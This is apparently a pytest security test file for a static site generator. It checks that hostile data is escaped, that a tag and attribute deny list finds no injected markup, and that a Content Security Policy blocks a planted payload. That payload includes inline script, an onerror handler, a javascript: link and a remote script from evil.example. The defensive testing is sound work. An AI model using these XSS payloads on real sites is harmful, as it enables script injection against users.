"""Safe by construction: every hostile vector, in every string field of every collection, ends as
visible text or as one problem line at check (tests/hostile.py); the built site holds none of them as
markup, and a payload planted in a built page would not run. The browser's side: test_safety_browser.py."""

from __future__ import annotations

import copy
import functools
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest

from conftest import mini_project
from hostile import BIG, SEVEN, write
from kb.problems import DataError
from kb.project import Project
from kb.schema import load as load_schemas
from payloads import VECTORS
from schema_examples import example_dataset, put, string_paths


def test_the_big_vector_is_refused_in_every_field_with_its_own_line(tmp_path):
    project = mini_project(tmp_path, {})
    schemas = load_schemas(project / "data" / "schema")
    base = example_dataset(schemas)
    files = dict(base)
    expected = set()
    for relative, record in base.items():
        if not relative.endswith("-1.yaml"):
            continue
        for number, path in enumerate(p for p in string_paths(record) if p != ("id",)):
            copied = copy.deepcopy(record)
            copied["id"] = f"big-{number}"
            put(copied, path, VECTORS[BIG])
            files[f"{relative.split('/')[0]}/big-{number}.yaml"] = copied
            expected.add(f"data/{relative.split('/')[0]}/big-{number}.yaml")
    write(project / "data", files)
    with pytest.raises(DataError) as caught:
        Project(project).validate()
    refused = {p.file for p in caught.value.problems if p.field}
    assert refused == expected


class Page(HTMLParser):
    """What the content of a built page holds: elements, attributes, links and text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.depth = 0
        self.bad: list[str] = []
        self.text: list[str] = []
        self.h1: list[str] = []
        self.in_h1 = False

    def handle_starttag(self, tag, attrs):
        if tag == "article":
            self.depth += 1
        if not self.depth:
            return
        if tag in ("script", "iframe", "object", "embed", "style", "link", "base", "form", "math", "img"):
            if not (tag == "form" and ("class", "kb-filter") in attrs):
                self.bad.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                self.bad.append(f"{tag}[{name}]")
            if name in ("href", "src", "action", "data") and value and \
                    re.match(r"\s*(javascript|data|vbscript):", value, re.IGNORECASE):
                self.bad.append(f"{tag}[{name}={value[:30]}]")
        self.in_h1 = self.in_h1 or tag == "h1"

    def handle_endtag(self, tag):
        if tag == "article":
            self.depth -= 1
        if tag == "h1":
            self.in_h1 = False

    def handle_data(self, data):
        if self.depth:
            self.text.append(data)
            if self.in_h1:
                self.h1.append(data)


@functools.lru_cache(maxsize=None)
def parse(path: Path) -> Page:
    """The page's <article> (the parser reads nothing outside it), parsed once for every test here."""
    html = path.read_text(encoding="utf-8")
    start, end = html.find("<article"), html.rfind("</article>")
    page = Page()
    page.feed(html[start:end + len("</article>")] if 0 <= start < end else html)
    return page


def test_no_page_holds_markup_links_or_handlers_from_data(hostile_site):
    project = hostile_site.project
    pages = list((project / "site").rglob("*.html"))
    assert len(pages) > 500
    for path in pages:
        assert parse(path).bad == [], path


def test_each_vector_shows_as_text_where_it_was_not_refused(hostile_site):
    project, files, which, refused = (hostile_site.project, hostile_site.files, hostile_site.which,
                                      hostile_site.refused)
    shown = 0
    for file, index in which.items():
        collection = file.split("/")[1]
        if "name.en" in refused.get(file, set()) or collection in ("terms", "sources", "series"):
            continue
        for prefix, lang in (("", "id"), ("en/", "en")):
            page = parse(project / "site" / prefix / collection / f"v{index}" / "index.html")
            heading = " ".join("".join(page.h1).split()).removesuffix("¶").strip()
            record = files[file.removeprefix("data/")]
            expected = " ".join(record["name"][lang].split())
            if record.get("abbr") and record["abbr"] not in expected:
                expected += f" ({record['abbr']})"
            assert heading == expected, (file, lang)
            text = " ".join(page.text)
            if index == SEVEN:
                assert "{{ 7*7 }}" in text and "49" not in text
            shown += 1
    assert shown > 100


def test_a_payload_planted_in_a_built_page_is_blocked_by_the_policy(project, browser, served):
    """The second wall: even markup that reached a page would not run."""
    site = project / "site"
    planted = site.parent / "planted-site"
    shutil.copytree(site, planted)
    target = planted / "bantuan" / "index.html"
    page_html = target.read_text(encoding="utf-8")
    payload = ('<script>alert("inline")</script><img src="x" onerror="alert(\'handler\')">'
               '<a id="js" href="javascript:alert(\'link\')">x</a>'
               '<script src="https://evil.example/x.js"></script>')
    target.write_text(page_html.replace('<article class="md-content__inner md-typeset">',
                                        '<article class="md-content__inner md-typeset">' + payload, 1))
    base = served(planted)
    page = browser.new_page()
    dialogs, violations = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda message: violations.append(message.text)
            if "Content Security Policy" in message.text else None)
    page.goto(base + "bantuan/")
    page.click("#js")
    for _ in range(50):  # the browser reports each blocked attempt as it happens: up to 5 s on a busy machine
        if len(violations) >= 3:
            break
        page.wait_for_timeout(100)
    page.wait_for_timeout(200)  # and a dialog, had a script run, would be open by now
    page.close()
    assert dialogs == []
    assert len(violations) >= 3, violations
